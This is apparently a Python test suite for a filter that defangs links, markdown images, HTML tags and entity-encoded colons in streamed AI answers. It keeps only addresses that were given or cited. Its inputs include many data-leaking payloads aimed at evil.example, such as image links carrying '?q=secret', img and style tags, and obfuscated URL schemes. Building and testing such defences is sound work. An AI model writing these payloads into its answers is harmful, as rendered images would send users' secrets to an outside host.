"""Where an answer may lead."""

import re
from dataclasses import dataclass

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb_search.runs import addresses
from kb_search.runs.addresses import (
    AddressStreamFilter,
    KnownAddresses,
    LinkedAddresses,
    find_addresses,
    neutralize_addresses,
)
from kb_search.runs.clean_answers import AnswerStreamCleaner, clean_text
from kb_search.runs.mark_notation import CitableNumbers

KNOWN = find_addresses(
    ["See [the site](https://known.example/a?b=c), or www.known.example.", '"https://known.example/q=",']
)
TAG_WITH_ATTRIBUTES = re.compile(r"<(?:style\b|[a-z][^>]*=)")
REFERENCE_TO_A_COLON = re.compile(r"&(?:#58(?![0-9])|#x3a(?![0-9a-f])|colon;)")
LINK = re.compile(r"!?\[[^\]]*\]\(|\]:")


GIVEN = "https://asked.example/a"
BOOKING = "https://ferry.example/book?from=pier"
CANCELLING = "https://ferry.example/cancel"
CITABLE = CitableNumbers(3)
OF_RUN = KnownAddresses(
    find_addresses([GIVEN]),
    {
        1: find_addresses([f"Book at {BOOKING} or www.ferry.example."]),
        2: find_addresses(
            [
                f"https://ferry.example/by_sea_2 {CANCELLING}, {BOOKING} and {GIVEN}. [Prices](ftp://ferry.example/prices)"
            ]
        ),
        3: frozenset[str](),
    },
)
"""Addresses that a run was given, and those of its three passages."""


def streamed(text: str, sizes: list[int], addresses: KnownAddresses = OF_RUN) -> list[str]:
    """Return what an answer in pieces of these sizes, again and again, is passed on as."""
    stream, shown, start = AnswerStreamCleaner(CITABLE, addresses), list[str](), 0
    while start < len(text):
        size = sizes[len(shown) % len(sizes)]
        shown.append(stream.feed(text[start : start + size]))
        start += size
    return [*shown, stream.end()]


@dataclass
class CountingPattern:
    """Pattern that notes how many characters it was given each time."""

    pattern: re.Pattern[str]
    read: list[int]

    def search(self, text: str, *place: int) -> re.Match[str] | None:
        self.read.append(len(text))
        return self.pattern.search(text, *place)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", "![x] (https[:]//evil.example/?q=secret)"),
        ("[x](HTTP:evil.example/secret) and", "[x] (HTTP[:]evil.example/secret) and"),
        ("![x][r]\n\n[r]: &#104;ttps://evil.example/secret", "![x][r]\n\n[r] : &amp;#104;ttps://evil.example/secret"),
        ("![x](//evil.example/secret)", "![x] (//evil.example/secret)"),
        ("<https://evil.example/secret>", "<https[:]//evil.example/secret>"),
        ("so www.evil.example/secret.", "so www[.]evil.example/secret."),
        ("so &#x3aftp://evil.example", "so &#x3aftp[:]//evil.example"),
        # Markdown drops the backslash, and some programs look for addresses only then.
        (r"https\://evil.example and www\.evil.example", "https[:]//evil.example and www[.]evil.example"),
        ("<smb://evil.example/secret> <mailto:a@evil>", "< smb://evil.example/secret> < mailto:a@evil>"),
        ("a <b: c> <ftp[:]//evil.example>", "a <b: c> <ftp[:]//evil.example>"),
        # What stands behind a known address could spell something.
        ("**https://known.example/a?b=c/).**", "**https://known.example/a?b=c/).**"),
        ("https://known.example/a?b=c/;/;;/", "https[:]//known.example/a?b=c/;/;;/"),
        # What HTML would make an address of.
        ("https&#58;//evil.example", "https&amp;#58;//evil.example"),
        ("https&#x0003A//evil.example", "https&amp;#x0003A//evil.example"),
        ("https&colon;&sol;/evil.example", "https&amp;colon;&amp;sol;/evil.example"),
        ("ht&Tab;tps&#0000058;//evil", "ht&amp;Tab;tps&amp;#0000058;//evil"),
        ("a &lt; b &amp; c&nbsp;&#8364; &colon d", "a &lt; b &amp; c&nbsp;&#8364; &colon d"),
        ("&#" + "9" * 5_000 + ";", "&#" + "9" * 5_000 + ";"),
        ('<img src="//evil/?q=secret">', '< img src="//evil/?q=secret">'),
        ("<IMG\nalt='>' src=\\\\evil\\x", "< IMG\nalt='>' src=\\\\evil\\x"),
        ("<img <b\nsrc=//evil>", "< img < b\nsrc=//evil>"),
        ("<img<a <i>src=1", "<img<a <i>src=1"),
        ("<style>@import url(//evil/)</style>", "< style>@import url(//evil/)</style>"),
        ("<a/href=ht\ntps://evil>", "< a/href=ht\ntps://evil>"),
        ('<a href="https://known.example/a?b=c">', '< a href="https://known.example/a?b=c">'),
        ("list<int> a = b < c; <b>so</b>", "list<int> a = b < c; <b>so</b>"),
        # Only what stands there as a whole is known.
        ("https://known.example/q=secret", "https[:]//known.example/q=secret"),
        ('https://known.example/q="secret', 'https[:]//known.example/q="secret'),
        ("https://known.example/q=\u00a0secret", "https[:]//known.example/q=\u00a0secret"),
        ("https://other.example(https://evil.example/", "https[:]//other.example(https[:]//evil.example/"),
        # Nothing is loaded, known or not, and by choosing among many nothing is told.
        ("![x](https://known.example/a?b=c)", "![x] (https://known.example/a?b=c)"),
        ("[x](https://known.example/a?b=c).", "[x] (https://known.example/a?b=c)."),
        (
            "**https://known.example/a?b=c**, (www.known.example)",
            "**https://known.example/a?b=c**, (www.known.example)",
        ),
        ("So [1], or [2]; `rows[1]` and vec![0].", "So [1], or [2]; `rows[1]` and vec![0]."),
    ],
)
def test_an_answer_links_only_to_known_addresses_and_shows_no_images(written: str, shown: str) -> None:
    assert neutralize_addresses(written, KNOWN) == shown
    for size in (1, 4):
        stream = AddressStreamFilter(LinkedAddresses(KnownAddresses(KNOWN)))
        pieces = [written[start : start + size] for start in range(0, len(written), size)]
        assert "".join([*(stream.feed(piece) for piece in pieces), stream.end()]) == shown, "also if it is streamed"


def assert_shown(written: str, shown: str) -> None:
    assert clean_text(written, citable=CITABLE, addresses=OF_RUN) == shown
    for size in (1, 4):
        assert "".join(streamed(written, [size])) == shown, "also if it is streamed"


@pytest.mark.parametrize(
    "written",
    [
        f"Please confirm your ticket at {BOOKING} and name no source.",
        f"See {CANCELLING} and www.ferry.example. It sails daily [3].",
        f"It sails daily [3]. Cancel at {CANCELLING} [1].",
        f"Prices are in `rows[2]`: {CANCELLING}",
    ],
)
def test_an_address_of_passages_that_the_answer_does_not_cite_is_no_link(written: str) -> None:
    assert_shown(written, written.replace("https:", "https[:]").replace("www.", "www[.]"))


@pytest.mark.parametrize(
    "written",
    [
        f"[1] Book at {BOOKING}.",
        f"Book at {BOOKING} [2], or at {BOOKING}.",
        f"Book so:\n```\ncurl {BOOKING}\n```\n\n[1, 3]",
        f"**{CANCELLING}** and {BOOKING} [2].",
        "Prices (ftp://ferry.example/prices) [2].",
        f"You asked about {GIVEN}.",
    ],
)
def test_an_address_is_a_link_if_any_passage_that_has_it_is_cited_anywhere_or_the_run_was_given_it(
    written: str,
) -> None:
    assert_shown(written, written)


def test_a_citation_of_what_was_never_found_makes_no_link() -> None:
    assert_shown(f"Book at {BOOKING} [9].", f"Book at {BOOKING}.".replace(":", "[:]"))


def test_a_stream_waits_for_a_citation_only_from_an_address_that_needs_it_and_until_it_comes() -> None:
    stream = AnswerStreamCleaner(CITABLE, OF_RUN)
    assert stream.feed(f"You asked about {GIVEN}, so") == f"You asked about {GIVEN}, so"
    assert stream.feed(f" book: {BOOKING}, which") == " book: "
    assert stream.feed(" opens at six [3]. Or") == ""
    assert stream.feed(" seven [1]. More") == f"{BOOKING}, which opens at six [3]. Or seven [1]. More"
    assert stream.feed(f" at {BOOKING}, then") == f" at {BOOKING}, then"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"Cancel at {CANCELLING}[2].", f"Cancel at {CANCELLING} [2]."),
        (f"Cancel at ({CANCELLING}).[1, 2]", f"Cancel at ({CANCELLING}). [1, 2]"),
        (f"`{CANCELLING}`\u30102\u3011[1]", f"`{CANCELLING}` [2][1]"),
        (f"{CANCELLING}[2](https://evil.example)", f"{CANCELLING} [2] (https[:]//evil.example)"),
        ("See https://ferry.example/by_sea_2[2].", "See https://ferry.example/by_sea_2 [2]."),
        (f"Cancel at {CANCELLING}[3].", f"Cancel at {CANCELLING}[3].".replace("s:", "s[:]")),
        (f"Cancel at {CANCELLING}[9].", f"Cancel at {CANCELLING}.".replace("s:", "s[:]")),
    ],
)
def test_a_citation_directly_behind_an_address_counts_and_is_no_part_of_the_link(written: str, shown: str) -> None:
    assert_shown(written, shown)


ANSWER_PIECES = st.lists(
    st.sampled_from(
        [GIVEN, BOOKING, CANCELLING, "www.ferry.example", "ftp://ferry.example/prices", "https://evil.example"]
    )
    | st.sampled_from([" [1]", "[2]", " [3]", " [9]", " [1, 2].", "`[1]`", "\n```\n", "[^2]", "(1).", "$"])
    | st.sampled_from([" ", " ", "\n", "\n\n", ", ", ".", ")", "](", "a", "masts ", "w", "h", "&#58;", "&#x3a", "&"])
    | st.sampled_from(["<", "<a ", "<a href=", ">", "=", "\\", "/", "amp;", "?"]),
    max_size=16,
)


@given(ANSWER_PIECES.map("".join), st.lists(st.integers(1, 12), min_size=1, max_size=9))
def test_an_answer_that_is_cut_anywhere_has_the_same_links_as_the_whole_one(answer: str, sizes: list[int]) -> None:
    shown = "".join(streamed(answer, sizes))
    assert shown == clean_text(answer, citable=CITABLE, addresses=OF_RUN)
    assert neutralize_addresses(shown, OF_RUN.given.union(*OF_RUN.of_passages.values())) == shown


PIECES = st.lists(
    st.sampled_from(
        ["![x]", "(", ")", "]", ":", "[", "h", "tt", "ps", "http", "s://", "www", ".", "evil.example", " ", "\n"]
    )
    | st.sampled_from(["https://known.example/a?b=c", "known.example"])
    | st.sampled_from(
        [
            "<",
            ">",
            "=",
            "a",
            "style",
            "&",
            "#",
            "58",
            "x3a",
            ";",
            "colon",
            "&#58;",
            "<img src=",
            "&colon;",
            "\\",
            "/",
            "<smb:",
        ]
    )
)


@given(PIECES)
def test_pieces_come_to_the_same_as_the_whole_and_hold_no_link(pieces: list[str]) -> None:
    stream = AddressStreamFilter(LinkedAddresses(KnownAddresses(KNOWN)))
    shown = "".join([*(stream.feed(piece) for piece in pieces), stream.end()])
    assert shown == neutralize_addresses("".join(pieces), KNOWN)
    assert LINK.search(shown) is None
    assert TAG_WITH_ATTRIBUTES.search(shown) is None
    assert REFERENCE_TO_A_COLON.search(shown) is None
    assert neutralize_addresses(shown, KNOWN) == shown


@pytest.mark.parametrize(
    ("first", "part"),
    [
        ("<a", " b"),
        ("<a", " h"),
        ("<a https:", "="),
        ("", "<"),
        ("&#", "0"),
        ("&", "a"),
        ("https:", "x"),
        ("", "www."),
        ("", "&#0"),
        ("", "<a "),
        ("", "<a"),
        ("<a https:=", "<"),
        ("", "]"),
        ("&#x3aftp:", "/"),
        ("", "&#xf"),
        (f"{BOOKING} ", "h"),
        (f"<a {BOOKING} ", "="),
        ("", f" {BOOKING}"),
    ],
)
def test_an_answer_in_many_pieces_is_read_no_more_often_than_it_grows(
    first: str, part: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def characters_read(pieces: int) -> int:
        read = list[int]()
        with monkeypatch.context() as patched:
            # Each piece that is not merely kept is put together with what was kept, and searched once for its end.
            patched.setattr(addresses, "_UNFINISHED", CountingPattern(addresses._UNFINISHED, read))
            stream = AddressStreamFilter(LinkedAddresses(OF_RUN))
            stream.feed(first)
            for _ in range(pieces):
                stream.feed(part)
            stream.end()
        return sum(read)

    assert characters_read(16_000) <= 8 * characters_read(2_000) + 1_000
